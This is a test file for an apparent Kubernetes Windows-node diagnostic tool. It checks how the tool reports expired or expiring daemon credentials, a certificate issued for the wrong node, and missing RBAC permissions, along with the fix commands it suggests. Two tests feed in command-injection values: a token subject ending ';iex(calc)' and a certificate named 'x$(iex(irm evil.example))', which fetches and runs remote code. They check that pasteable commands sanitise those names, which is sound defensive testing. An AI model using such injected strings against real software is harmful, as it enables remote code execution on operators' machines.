// Who the daemons are to the cluster: how long, for which node, and what they may not do.
import {describe, expect, test} from 'vitest'
import {MemoryHost} from '../../fakes/memory-host.js'
import {NEEDS} from '../../../src/components/permissions.js'
import type {Kubeconfig} from '../../../src/host/cluster/kubeconfig.js'
import {adviseOn} from '../../../src/components/permission-advice.js'
import {ADMIN_CERTIFICATE} from '../../../src/simulator/cluster/certificates.js'
import {makeKubeconfig} from '../../../src/simulator/cluster/kubeconfig.js'
import type {World} from '../../../src/simulator/world.js'
import {pem} from '../../host/cluster/loopback-cluster.js'
import {check, checkOne, KUBECONFIG, kubeconfigOf} from '../cluster-bench.js'

const SERVER = 'https://10.0.0.10:6443'
const EMPTY = {key: 'x', server: SERVER, tls: {}, write: {}} as unknown as Kubeconfig
/** CN=x$(iex(irm evil.example)), made by openssl. */
const EVIL_CERTIFICATE = `-----BEGIN CERTIFICATE-----
MIIBnjCCAUOgAwIBAgIUF+7krmUzeim7DeVEp+19B+HyapYwCgYIKoZIzj0EAwIw
JDEiMCAGA1UEAwwZeCQoaWV4KGlybSBldmlsLmV4YW1wbGUpKTAeFw0yNjExMTcy
MTA3MThaFw0yNjEyMTcyMTA3MThaMCQxIjAgBgNVBAMMGXgkKGlleChpcm0gZXZp
bC5leGFtcGxlKSkwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAAQCvS3kE8/dKL7F
kuLVasi4tWTSv4ksZ9f7QAu34/LHpck6SZah/889j511/FN4xmi3WrNv9PvEJMgf
5lkzHPOOo1MwUTAdBgNVHQ4EFgQU5zbNV9YZhG63UUslY2cGmQVs9x8wHwYDVR0j
BBgwFoAU5zbNV9YZhG63UUslY2cGmQVs9x8wDwYDVR0TAQH/BAUwAwEB/zAKBggq
hkjOPQQDAgNJADBGAiEAu0PaKRc2rfx8GW6t/2DDZge1wHt79B92/aV9pNtlBfMC
IQCivfeRDheDAQoG+pofs1KwXfR8wWGhjC475b/LXYmYFw==
-----END CERTIFICATE-----`
const DAY_MS = 24 * 3_600_000
const jwt = (claims: object): string => `e30.${Buffer.from(JSON.stringify(claims)).toString('base64url')}.canary`

/** A service account with its own token in its own kubeconfig, on a fresh host. */
const withToken = (identity: string, claims: object) => {
  const token = jwt(claims)
  return {
    files: {[`in\\${identity}`]: kubeconfigOf({token})},
    given: {[`${identity}-kubeconfig`]: `c:\\in\\${identity}`},
    token,
  }
}

describe('credentials', () => {
  test('that have expired are reported with their day, and once for those who share them', async () => {
    const expired = makeKubeconfig(SERVER, {cert: pem('client-expired.pem'), key: pem('leaf.key')})
    const {problems, results} = await check({files: {[KUBECONFIG]: expired}})
    expect(problems[0]).toMatchObject({
      id: 'CREDENTIALS_LAPSED',
      message: 'The credentials of kubelet, kube-proxy, flanneld are expired or not yet valid',
      reason: 'The client certificate expired on 2021-01-01.',
    })
    expect(results['credentials']?.fix).toContain('new kubeconfig')
    // That the server refuses them is the same problem, seen from there.
    expect(problems.map(({id}) => id)).toEqual(['CREDENTIALS_LAPSED', 'API_SERVER_REFUSES'])
  })

  test.each([
    ['within 30 days', Date.UTC(2119, 11, 15), 'warn'],
    ['in more than 30 days', Date.UTC(2119, 10, 15), 'pass'],
  ])('of a certificate that ends %s', async (_, time, result) => {
    const seen = await checkOne('credentials', {sicken: (world) => (world.os.time = time)})
    expect(seen.result).toBe(result)
    if (result === 'warn')
      expect(seen.message).toContain('kubelet, kube-proxy, flanneld are valid only until 2120-01-01')
  })

  test('of a token that ends soon are reported with its daemon, and never with it', async () => {
    const now = new MemoryHost().bornAt
    const soon = withToken('flanneld', {exp: Math.round((now + 2 * DAY_MS) / 1000)})
    const seen = await checkOne('credentials', soon)
    expect(seen).toMatchObject({result: 'warn'})
    expect(seen.message).toMatch(/of flanneld are valid only until \d{4}-\d\d-\d\d$/)
    expect(JSON.stringify(seen)).not.toContain('canary')
  })

  test.each([{exp: 1e300}, {exp: 'never'}, {}])(
    'of a token that does not say when it ends are left alone: %o',
    async (claims) => {
      expect((await checkOne('credentials', withToken('flanneld', claims))).result).toBe('pass')
    },
  )
})

describe('the certificate of another node', () => {
  test('is warned about, with both ways out', async () => {
    const seen = await checkOne('node-identity', {given: {'node-name': 'win-2'}})
    expect(seen).toMatchObject({result: 'warn'})
    expect(seen.message).toContain('for the node win-1, and this node is win-2')
    expect(seen.fix).toBe('Pass --node-name win-1, or give the kubelet a certificate for system:node:win-2.')
  })

  test('is none where it is not a node’s', async () => {
    const files = {[KUBECONFIG]: makeKubeconfig(SERVER, ADMIN_CERTIFICATE)}
    const {results} = await check({files, given: {'node-name': 'win-2'}})
    expect(results['node-identity']).toMatchObject({message: 'kubernetes-admin', result: 'pass'})
    expect(results['cluster-administrator']).toMatchObject({result: 'warn'})
  })
})

describe('permissions', () => {
  const may =
    (...permissions: readonly string[]) =>
    (world: World): void =>
      void (world.cluster.permissions = [...permissions])
  /** What the node authorizer lets a node do, with the events. */
  const ofANode = NEEDS.kubelet.required
    .concat(NEEDS.kubelet.optional, NEEDS.kubelet.renewal)
    .map(({resource, subresource, verb}) =>
      [verb, subresource === undefined ? resource : `${resource}/${subresource}`].join(' '),
    )

  test('all that are missing are reported at once, one message an identity, each with its command', async () => {
    const {problems} = await check({sicken: may('list services')})
    const missing = problems.filter(({id}) => /^(?:NODE_ACCESS|PERMISSIONS)_MISSING$/.test(id))
    expect(missing.map(({id, message}) => [id, message])).toEqual([
      [
        'PERMISSIONS_MISSING',
        'The kubelet may not: create, get, list, watch nodes; patch nodes/status; list, watch, delete pods; patch pods/status; watch services; ' +
          'create, get, update leases.coordination.k8s.io; create, get csinodes.storage.k8s.io; ' +
          'create tokenreviews.authentication.k8s.io; create subjectaccessreviews.authorization.k8s.io; ' +
          'create, list, watch certificatesigningrequests.certificates.k8s.io',
      ],
      [
        'NODE_ACCESS_MISSING',
        'kube-proxy may not: watch services; list, watch endpointslices.discovery.k8s.io; get nodes',
      ],
      ['NODE_ACCESS_MISSING', 'flanneld may not: get, list, watch nodes; patch nodes/status'],
    ])
    expect(missing.map(({fix}) => fix.split('\n').slice(1))).toEqual([
      [],
      ['k8s-win manifest node-access | kubectl apply -f -'],
      ['k8s-win manifest node-access | kubectl apply -f -'],
    ])
    expect(missing[0]?.fix).toContain('--authorization-mode=Node,RBAC')
  })

  test.each(['v1.31.14', 'v1.34.11', 'v1.36.4'])('a node has those of a kubelet on %s', async (version) => {
    const given = {'flanneld-kubeconfig': String.raw`c:\in\admin`, 'kube-proxy-kubeconfig': String.raw`c:\in\admin`}
    const {result} = await checkOne('permissions', {
      files: {[String.raw`in\admin`]: makeKubeconfig(SERVER, ADMIN_CERTIFICATE)},
      given,
      sicken({cluster}) {
        cluster.version = version
        // From 1.32 on it reads its own Node and pods only.
        cluster.roleBindings = []
      },
    })
    expect(result).toBe('pass')
  })

  test('review K12: without the bindings of system:nodes kube-proxy may not run as the node: NODE_ACCESS_MISSING', async () => {
    const {problems} = await check({sicken: ({cluster}) => void (cluster.roleBindings = [])})
    expect(problems.map(({id, message}) => [id, message])).toEqual([
      ['NODE_ACCESS_MISSING', 'kube-proxy may not: list, watch endpointslices.discovery.k8s.io'],
    ])
    expect(problems[0]?.fix.split('\n').at(-1)).toBe('k8s-win manifest node-access | kubectl apply -f -')
  })

  test.each([
    ['1.33.13', []],
    ['1.34.11', ['kube-proxy may not: list, watch nodes']],
  ])('kube-proxy %s without the right to list its Node', async (release, messages) => {
    const user = 'system:serviceaccount:kube-system:kube-proxy'
    const {given, token, ...own} = withToken('kube-proxy', {sub: user})
    const {problems} = await check({
      ...own,
      given: {...given, release},
      sicken({cluster}) {
        cluster.version = 'v1.34.11'
        cluster.tokens = {[token]: user}
        cluster.permissionsOf = {[user]: ['* services', '* endpointslices', '* events', 'get nodes']}
      },
    })
    expect(problems.filter(({id}) => id === 'PERMISSIONS_MISSING').map(({message}) => message)).toEqual(messages)
  })

  test.each([
    ['authentication.k8s.io', 'tokenreviews'],
    ['authorization.k8s.io', 'subjectaccessreviews'],
    ['certificates.k8s.io', 'certificatesigningrequests'],
  ])('review W8: the kubelet needs to create %s/%s', async (_, resource) => {
    const {problems} = await check({
      sicken: may(...ofANode.filter((one) => one !== `create ${resource}`), '* endpointslices'),
    })
    expect(problems.map(({message}) => message)).toEqual([
      expect.stringMatching(`^The kubelet may not: create ${resource}`),
    ])
  })

  test('review W8: a kubelet with a token has no certificate to renew', async () => {
    const {token, ...own} = withToken('kubelet', {sub: 'system:serviceaccount:kube-system:node'})
    const {problems} = await check({
      ...own,
      sicken(world) {
        world.cluster.tokens = {[token]: 'system:serviceaccount:kube-system:node'}
        const needed = ofANode.filter((one) => !one.endsWith(' certificatesigningrequests'))
        world.cluster.permissionsOf = {'system:serviceaccount:kube-system:node': needed}
      },
    })
    expect(problems).toEqual([])
  })

  const CERTIFICATE = [
    "kubectl -n kube-system get configmap kubeadm-config -o jsonpath='{.data.ClusterConfiguration}' > kubeadm.yaml",
    'kubeadm kubeconfig user --config=kubeadm.yaml --org=system:nodes --client-name=system:node:win-1 > kubeconfig',
  ]

  test('review U2: an identity that is not a node is to be one by its certificate, not by the role system:node', async () => {
    const {token, ...own} = withToken('kubelet', {sub: 'system:serviceaccount:kube-system:node'})
    const {problems, results} = await check({
      ...own,
      sicken: ({cluster}) => void (cluster.tokens = {[token]: 'system:serviceaccount:kube-system:node'}),
    })
    const missing = problems.filter(({id}) => id === 'PERMISSIONS_MISSING')
    expect(missing).toHaveLength(1)
    expect(missing[0]?.fix.split('\n').slice(1)).toEqual(CERTIFICATE)
    expect(JSON.stringify(results)).not.toContain('--clusterrole=system:node ')
  })

  test('review K3: another node’s certificate is cured by one of this node’s own, not by a binding', async () => {
    const {problems} = await check({given: {'node-name': 'win-2'}})
    expect(problems.map(({id, message}) => [id, message])).toEqual([
      [
        'PERMISSIONS_MISSING',
        'The kubelet may not: get, update leases.coordination.k8s.io; get csinodes.storage.k8s.io',
      ],
    ])
    expect(problems[0]?.fix).toContain('--node-name win-1')
    expect(problems[0]?.fix).toContain('--client-name=system:node:win-2')
    expect(problems[0]?.fix).not.toContain('clusterrolebinding')
  })

  test.each([
    ['system:serviceaccount:a:b;iex(calc)', '--serviceaccount=<name>'],
    ['system:serviceaccount:a:b', '--serviceaccount=a:b'],
  ])('review S2-6: a command to paste names the user of a token only as one harmless word: %s', (sub, subject) => {
    const {fix} = adviseOn('flanneld', {...EMPTY, token: jwt({sub})}, 'win-1')
    expect(fix.split('\n')[1]?.split(' ').at(-1)).toBe(subject)
  })

  test('review S2-6: nor the user of a certificate: x$(iex(irm evil.example))', () => {
    const {fix} = adviseOn('flanneld', {...EMPTY, certificate: EVIL_CERTIFICATE}, 'win-1')
    expect(fix.split('\n')[1]?.split(' ').at(-1)).toBe('--user=<name>')
  })

  test('review K3: a bootstrap token gets no binding, for any daemon', async () => {
    const token = 'abcdef.0123456789abcdef'
    const {problems} = await check({
      files: {[KUBECONFIG]: kubeconfigOf({token})},
      sicken: ({cluster}) => void (cluster.tokens = {[token]: 'system:bootstrap:abcdef'}),
    })
    const missing = problems.filter(({id}) => id === 'PERMISSIONS_MISSING')
    expect(missing).toHaveLength(3)
    for (const {fix} of missing) {
      expect(fix).toMatch(/^A bootstrap token can only request a certificate\./)
      expect(fix).not.toContain('clusterrolebinding')
    }
  })

  test('a node’s own identity is enough for the kubelet and flanneld, but not for kube-proxy', async () => {
    const {problems} = await check({sicken: may(...ofANode)})
    expect(problems.map(({message}) => message)).toEqual([
      'kube-proxy may not: list, watch endpointslices.discovery.k8s.io',
    ])
  })

  test('each identity is asked for itself', async () => {
    const sub = 'system:serviceaccount:kube-flannel:flannel'
    const {token, ...own} = withToken('flanneld', {sub})
    const {problems} = await check({
      ...own,
      sicken(world) {
        world.cluster.tokens = {[token]: sub}
        world.cluster.permissionsOf = {[sub]: ['get nodes', 'list nodes']}
      },
    })
    expect(problems.map(({message}) => message)).toEqual(['flanneld may not: watch nodes; patch nodes/status'])
    expect(problems[0]?.reason).toContain(sub)
    expect(problems[0]?.fix).toContain('--clusterrole=flannel --serviceaccount=kube-flannel:flannel')
  })

  test('events that are lost are only warned about', async () => {
    const others = [
      'list endpointslices',
      'watch endpointslices',
      'list configmaps',
      'get configmaps',
      'list daemonsets',
    ]
    const events = ofANode.filter((permission) => !permission.endsWith(' events'))
    const seen = await checkOne('permissions', {sicken: may(...events, ...others)})
    expect(seen).toMatchObject({problems: [], result: 'warn'})
    expect(seen.message).toContain('The kubelet is not allowed: create events, so its events are lost')
    // 1.21 writes core events (review W8).
    expect(seen.message).toContain('kube-proxy is not allowed: create events; create events.events.k8s.io')
  })

  test('review K3-7: who shares a kubeconfig is asked once, and for a node what only the Node authorizer allows', async () => {
    const {effects} = await check()
    const reviews = effects.filter((effect) => JSON.stringify(effect).includes('selfsubjectaccessreviews'))
    const wanted = [NEEDS.flanneld, NEEDS['kube-proxy']].flatMap(({optional, required}) => [...required, ...optional])
    const ofAll = wanted.filter(({since}) => since === undefined)
    const ofTheKubelet = 2
    expect(reviews).toHaveLength(new Set(ofAll.map((permission) => JSON.stringify(permission))).size + ofTheKubelet)
  })
})
